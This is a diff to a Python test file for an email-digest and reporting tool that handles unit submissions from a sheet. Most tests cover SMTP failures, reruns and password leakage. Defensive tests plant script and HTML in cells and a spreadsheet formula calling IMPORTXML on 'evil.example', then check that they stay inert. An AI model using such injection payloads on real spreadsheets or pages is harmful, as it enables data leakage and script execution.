@@ -13,11 +13,12 @@ import pytest
 
 from tasks.completeness import completeness
 from tasks.compose import digest_mail
-from tasks.delivery import deliver
+from tasks.delivery import Outcome, send
 from tasks.ledger import Ledger
 from tasks.normalise import normalise
+from tasks.round import Round
 from tasks.transport import FileOutbox, SmtpTransport
-from tests.conftest import later_run, local, round_mails
+from tests.helpers import HEADER, later_run, local, round_mails
 from tests.smtp_server import Faulty, smtp_server, smtp_settings
 
 
@@ -37,12 +38,16 @@ def test_recipient_refused_mid_batch_then_rerun_sends_exactly_the_rest(tmp_path,
     recorder = Faulty(refuse={"stp-cba@kvtd-tuphap.example"})
     with smtp_server(recorder=recorder) as (controller, _):
         settings = smtp_settings(tmp_path, controller)
-        first = deliver(mails, settings, Ledger(settings.ledger), SmtpTransport(settings), instant)
+        first = send(
+            mails, settings, instant, ledger=Ledger(settings.ledger), transport=SmtpTransport(settings)
+        )
         assert [f.split(":")[0] for f in first.failed] == ["STP-CBA"] and "550" in first.failed[0]
         assert len(first.sent) == len(mails) - 1  # the batch carried on after the refusal
         assert ledger_status(settings)["STP-CBA"]["status"] == "failed"
         recorder.refuse.clear()
-        rerun = deliver(mails, settings, Ledger(settings.ledger), SmtpTransport(settings), instant)
+        rerun = send(
+            mails, settings, instant, ledger=Ledger(settings.ledger), transport=SmtpTransport(settings)
+        )
     assert rerun.sent == ["STP-CBA"]
     for m in mails:
         assert len(received_by(recorder, m.to[0][1])) == 1
@@ -53,8 +58,12 @@ def test_unit_refused_but_contacts_accepted_is_not_resent(tmp_path, sample, plan
     recorder = Faulty(refuse={"stp-lch@kvtd-tuphap.example"})
     with smtp_server(recorder=recorder) as (controller, _):
         settings = smtp_settings(tmp_path, controller)
-        first = deliver(mails, settings, Ledger(settings.ledger), SmtpTransport(settings), instant)
-        rerun = deliver(mails, settings, Ledger(settings.ledger), SmtpTransport(settings), instant)
+        first = send(
+            mails, settings, instant, ledger=Ledger(settings.ledger), transport=SmtpTransport(settings)
+        )
+        rerun = send(
+            mails, settings, instant, ledger=Ledger(settings.ledger), transport=SmtpTransport(settings)
+        )
     assert "STP-LCH" in first.sent and first.partial[0].startswith("STP-LCH: ")
     assert ledger_status(settings)["STP-LCH"]["error"].startswith("một số người nhận bị từ chối")
     assert rerun.sent == []  # the Head and Deputies got it: no duplicate for them
@@ -65,7 +74,9 @@ def test_temporary_failure_then_success(tmp_path, sample, plan):
     recorder = Faulty(busy_once={"stp-bka@kvtd-tuphap.example"})
     with smtp_server(recorder=recorder) as (controller, _):
         settings = smtp_settings(tmp_path, controller)
-        outcome = deliver(mails, settings, Ledger(settings.ledger), SmtpTransport(settings), instant)
+        outcome = send(
+            mails, settings, instant, ledger=Ledger(settings.ledger), transport=SmtpTransport(settings)
+        )
     assert outcome.failed == [] and "STP-BKA" in outcome.sent
     assert len(received_by(recorder, "stp-bka@kvtd-tuphap.example")) == 1
 
@@ -75,12 +86,16 @@ def test_connection_dropped_mid_batch(tmp_path, sample, plan):
     recorder = Faulty(drop_at=3)
     with smtp_server(recorder=recorder) as (controller, _):
         settings = smtp_settings(tmp_path, controller)
-        first = deliver(mails, settings, Ledger(settings.ledger), SmtpTransport(settings), instant)
+        first = send(
+            mails, settings, instant, ledger=Ledger(settings.ledger), transport=SmtpTransport(settings)
+        )
         assert len(first.sent) == 2 and len(first.failed) == len(mails) - 2
         assert all("mất kết nối SMTP" in f for f in first.failed)
         statuses = ledger_status(settings)
         assert sorted(r for r, v in statuses.items() if v["status"] == "sent") == sorted(first.sent)
-        rerun = deliver(mails, settings, Ledger(settings.ledger), SmtpTransport(settings), instant)
+        rerun = send(
+            mails, settings, instant, ledger=Ledger(settings.ledger), transport=SmtpTransport(settings)
+        )
     assert sorted(rerun.sent) == sorted(m.key.recipient for m in mails if m.key.recipient not in first.sent)
     for m in mails:
         assert len(received_by(recorder, m.to[0][1])) == 1
@@ -99,7 +114,7 @@ class SlowOutbox(FileOutbox):
         for result in super().send_batch(batch):
             time.sleep(0.05)
             with self.lock:
-                self.writes.append(result.outgoing.mail.key.recipient)
+                self.writes.append(result.outgoing.key.recipient)
             yield result
 
 
@@ -110,7 +125,13 @@ def test_two_runs_of_the_same_round_at_once_send_each_message_once(settings, sam
 
     def run():
         outcomes.append(
-            deliver(mails, settings, Ledger(settings.ledger), SlowOutbox(settings.outbox_dir), instant)
+            send(
+                mails,
+                settings,
+                instant,
+                ledger=Ledger(settings.ledger),
+                transport=SlowOutbox(settings.outbox_dir),
+            )
         )
 
     threads = [threading.Thread(target=run) for _ in range(2)]
@@ -123,8 +144,6 @@ def test_two_runs_of_the_same_round_at_once_send_each_message_once(settings, sam
 
 
 # -- the sheet -------------------------------------------------------------------------------
-
-HEADER = ["Thời gian nộp", "Đơn vị", "Mốc", "Loại hồ sơ", "Số trang", "Đường dẫn", "Ghi chú"]
 
 
 def test_ten_thousand_junk_rows_are_reported_not_mailed_in_full(plan):
@@ -140,9 +159,8 @@ def test_ten_thousand_junk_rows_are_reported_not_mailed_in_full(plan):
     assert {f.row for f in data.findings} == set(range(3, 10_003))
     instant = local(plan, 2021, 6, 18, 8)
     table = completeness(plan, data.submissions, data.registrations, instant, ["so-ket"])
-    digest = digest_mail(
-        plan, table, "so-ket", "before-1", instant, {"sent": []}, [f.__dict__ for f in data.findings]
-    )
+    rnd = Round.of(plan, "so-ket", "before-1", instant)
+    digest = digest_mail(rnd, table, [], [], Outcome(), [f.__dict__ for f in data.findings])
     assert "… và 9970 dòng khác" in digest.text and len(digest.text) < 20_000
 
 
@@ -158,14 +176,13 @@ def test_html_and_script_in_sheet_cells_are_inert(plan, tmp_path):
     data = normalise(plan, raw)
     instant = local(plan, 2021, 6, 18, 8)
     table = completeness(plan, data.submissions, data.registrations, instant, ["so-ket"])
-    digest = digest_mail(
-        plan, table, "so-ket", "before-1", instant, {"sent": []}, [f.__dict__ for f in data.findings]
-    )
+    rnd = Round.of(plan, "so-ket", "before-1", instant)
+    digest = digest_mail(rnd, table, [], [], Outcome(), [f.__dict__ for f in data.findings])
     assert "<script>" not in digest.html and "&lt;script&gt;" in digest.html
     assert "<img" not in digest.html
-    from tasks.round_artifacts import _cell
+    from tasks.markdown import md
 
-    assert "<script>" not in _cell(evil)
+    assert "<script>" not in md(evil) and "|" not in md("a|b").replace("\\|", "")
 
 
 def test_formula_looking_cells_stay_text_in_the_xlsx_annex(sample, plan, tmp_path):
@@ -177,7 +194,7 @@ def test_formula_looking_cells_stay_text_in_the_xlsx_annex(sample, plan, tmp_pat
 
     raw_indicators = sample.data.indicators.copy()
     raw_indicators.loc[0, "indicator"] = '=IMPORTXML("http://evil.example","//a")'
-    inputs = Inputs(plan, sample.data, "mẫu", {})
+    inputs = Inputs(plan, sample.data, "mẫu", {})  # headers are not read by reports
     inputs.data = type(sample.data)(**{**sample.data.__dict__, "indicators": raw_indicators})
     at = local(plan, 2021, 6, 24)
     path = write_xlsx(compile_report(plan, inputs, assess(inputs, at), "midyear", at), tmp_path / "a.xlsx")
@@ -205,7 +222,7 @@ def test_smtp_password_never_appears_in_any_output(tmp_path, sample, plan, capsy
     mails, instant = round_mails(sample, plan)
     with smtp_server() as (controller, _):
         wrong = smtp_settings(tmp_path, controller, password=secret)
-        outcome = deliver(mails, wrong, Ledger(wrong.ledger), SmtpTransport(wrong), instant)
+        outcome = send(mails, wrong, instant, ledger=Ledger(wrong.ledger), transport=SmtpTransport(wrong))
     assert outcome.failed and secret not in repr(wrong) and secret not in str(wrong.model_dump())
     captured = capsys.readouterr()
     haystack = every_output(tmp_path / "var") + (captured.out + captured.err + caplog.text).encode()
